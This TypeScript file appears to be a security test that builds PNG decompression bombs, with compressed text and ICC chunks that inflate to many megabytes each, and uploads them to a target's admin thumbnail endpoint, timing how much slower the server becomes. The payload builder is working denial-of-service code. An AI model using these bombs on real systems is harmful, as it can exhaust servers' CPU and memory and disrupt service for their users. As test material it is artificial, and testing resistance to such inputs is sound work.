import { crc32, deflateSync } from "node:zlib";
import { staffOf } from "../staff.ts";
import { type Outcome, type Target } from "../target.ts";

const TEXTS = 20;
/** Bytes of each text after decompression. */
const SIZE = 15_000_000;
/** A bomb may take this many times as long as a harmless picture, and so many milliseconds more. */
const SLOWER = { times: 3, milliseconds: 300 };

/** A small picture must not cost seconds of a core. */
export async function run(target: Target): Promise<Outcome> {
  const headers = await staffOf(target);
  const upload = async (picture: Uint8Array<ArrayBuffer>) => {
    const form = new FormData();
    form.set("thumbnail", new File([picture], "picture.png", { type: "image/png" }));
    const began = performance.now();
    const answer = await fetch(`${target.url}/api/admin/videos/9/thumbnail/`, { method: "POST", headers, body: form });
    await answer.arrayBuffer();
    return performance.now() - began;
  };
  // The first picture loads the library.
  await upload(png("tEXt", Buffer.from("Comment\0text")));
  const harmless = await upload(png("tEXt", Buffer.from("Comment\0text")));
  const bombs = [png("zTXt", ztxt), png("iTXt", itxt), png("iCCP", iccp)];
  let slow = 0;
  for (const picture of bombs) {
    if ((await upload(picture)) > harmless * SLOWER.times + SLOWER.milliseconds) slow += 1;
  }
  return { attempts: bombs.length, succeeded: slow };
}

const bomb = deflateSync(Buffer.alloc(SIZE), { level: 9 });
const ztxt = Buffer.concat([Buffer.from("Comment\0\0", "latin1"), bomb]);
const itxt = Buffer.concat([Buffer.from("Comment\0\x01\0\0\0", "latin1"), bomb]);
const iccp = Buffer.concat([Buffer.from("icc\0\0", "latin1"), bomb]);

export function png(type: string, content: Buffer): Uint8Array<ArrayBuffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(64, 0);
  header.writeUInt32BE(36, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(36 * (1 + 64 * 3)));
  const repeated = Array.from({ length: type === "iCCP" ? 1 : TEXTS }, () => chunk(type, content));
  const chunks = [chunk("IHDR", header), ...repeated, chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))];
  return new Uint8Array(Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), ...chunks]));
}

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, "latin1"), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
